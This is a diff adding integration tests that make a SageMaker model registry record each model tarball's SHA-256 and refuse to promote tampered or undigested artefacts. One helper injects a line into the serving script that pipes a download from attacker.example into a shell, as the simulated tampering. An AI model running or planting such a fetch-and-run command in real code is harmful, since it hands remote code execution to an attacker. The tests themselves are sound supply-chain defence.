@@ -9,6 +9,7 @@ by ``tests/integration/test_ml_training.py`` (``ml/inference.py`` functions on r
 
 from __future__ import annotations
 
+import hashlib
 import io
 import tarfile
 from collections.abc import Iterator, Mapping
@@ -71,7 +72,9 @@ def env(monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
             serving_code=SERVING,
         )  # fmt: skip
         registry.ensure_group()
-        deployer = SageMakerEndpointDeployer(sm, group=GROUP, endpoint=ENDPOINT, role_arn=ROLE)
+        deployer = SageMakerEndpointDeployer(
+            sm, s3=clients.s3, group=GROUP, endpoint=ENDPOINT, role_arn=ROLE
+        )
         clock = FixedClock(datetime(2019, 7, 1, tzinfo=UTC))
         yield Env(sm, clients, ModelRegistryService(registry, clock, deployer))
 
@@ -180,3 +183,88 @@ def test_the_canary_promote_step_redeploys_the_endpoint(
     # Then the version is in production and the endpoint serves its package
     assert result["stage"] == "production"
     assert _served(env)[0] == _package(env, version)["ModelPackageArn"]
+
+
+def _tarball_key(env: Env, version: int) -> str:
+    url = _package(env, version)["InferenceSpecification"]["Containers"][0]["ModelDataUrl"]
+    return str(url).removeprefix(f"s3://{BUCKET}/")
+
+
+def _tampered(tarball: bytes) -> bytes:
+    """The same model.tar.gz with its serving script replaced (what SageMaker would run)."""
+    out = io.BytesIO()
+    with (
+        tarfile.open(fileobj=io.BytesIO(tarball), mode="r:gz") as src,
+        tarfile.open(fileobj=out, mode="w:gz") as dst,
+    ):
+        for member in src.getmembers():
+            handle = src.extractfile(member)
+            body = handle.read() if handle else b""
+            if member.name == "code/inference.py":
+                body += b"\nimport os; os.system('curl -s https://attacker.example | sh')\n"
+                member.size = len(body)
+            dst.addfile(member, io.BytesIO(body))
+    return out.getvalue()
+
+
+def test_registration_records_the_sha256_of_the_artefact_it_deploys(
+    env: Env,
+    trained_models: Mapping[str, TrainedModel],  # noqa: F811
+) -> None:
+    # Given a registered version
+    version = _register(env, trained_models["weak"])
+    # Then the package's metadata holds the SHA-256 of its model.tar.gz, and keeps it through
+    # stage changes (the metadata map is rewritten on every save)
+    body = env.clients.s3.get_object(Bucket=BUCKET, Key=_tarball_key(env, version))["Body"].read()
+    expected = hashlib.sha256(body).hexdigest()
+    assert _package(env, version)["CustomerMetadataProperties"]["cst_tarball_sha256"] == expected
+    env.service.move(env.service.get(version), ModelStage.SHADOW, "shadow", "tests")
+    assert _package(env, version)["CustomerMetadataProperties"]["cst_tarball_sha256"] == expected
+
+
+def test_a_tampered_artefact_is_refused_with_a_reason_and_nothing_is_served(
+    env: Env,
+    trained_models: Mapping[str, TrainedModel],  # noqa: F811
+) -> None:
+    # Given v1 served, and v2 registered, whose model.tar.gz is then rewritten in S3 with a
+    # changed serving script (a role that may write under models/ could do that)
+    v1, v2 = _register(env, trained_models["weak"]), _register(env, trained_models["full"])
+    env.service.promote(v1, "bootstrap", "ops")
+    key = _tarball_key(env, v2)
+    original = env.clients.s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
+    env.clients.s3.put_object(Bucket=BUCKET, Key=key, Body=_tampered(original))
+
+    # When v2 is promoted
+    with pytest.raises(ModelRegistryError) as refused:
+        env.service.promote(v2, "beat v1", "ops")
+
+    # Then the deployment is refused, saying the artefact changed after registration; the
+    # endpoint still serves v1, and the registry is as it was
+    message = str(refused.value)
+    assert "not promoted" in message and "changed after registration" in message
+    assert f"{GROUP}/v{v2}" in message and key in message
+    assert _served(env)[0] == _package(env, v1)["ModelPackageArn"]
+    assert env.service.get(v2).stage is ModelStage.REGISTERED
+    assert len(env.sm.list_models()["Models"]) == 1  # no model was created for v2
+
+    # and once the registered bytes are back, the same promotion goes through
+    env.clients.s3.put_object(Bucket=BUCKET, Key=key, Body=original)
+    env.service.promote(v2, "beat v1", "ops")
+    assert _served(env)[0] == _package(env, v2)["ModelPackageArn"]
+
+
+def test_a_version_without_a_recorded_digest_is_not_served(
+    env: Env,
+    trained_models: Mapping[str, TrainedModel],  # noqa: F811
+) -> None:
+    # Given a package whose metadata lost (or never had) its digest
+    version = _register(env, trained_models["weak"])
+    arn = _package(env, version)["ModelPackageArn"]
+    meta = dict(_package(env, version)["CustomerMetadataProperties"])
+    meta.pop("cst_tarball_sha256")
+    env.sm.update_model_package(ModelPackageArn=arn, CustomerMetadataProperties=meta)
+
+    # When it is promoted, Then it is refused: an unverifiable artefact is not served
+    with pytest.raises(ModelRegistryError, match="no SHA-256 of its model artefact recorded"):
+        env.service.promote(version, "bootstrap", "ops")
+    assert env.sm.list_endpoints()["Endpoints"] == []
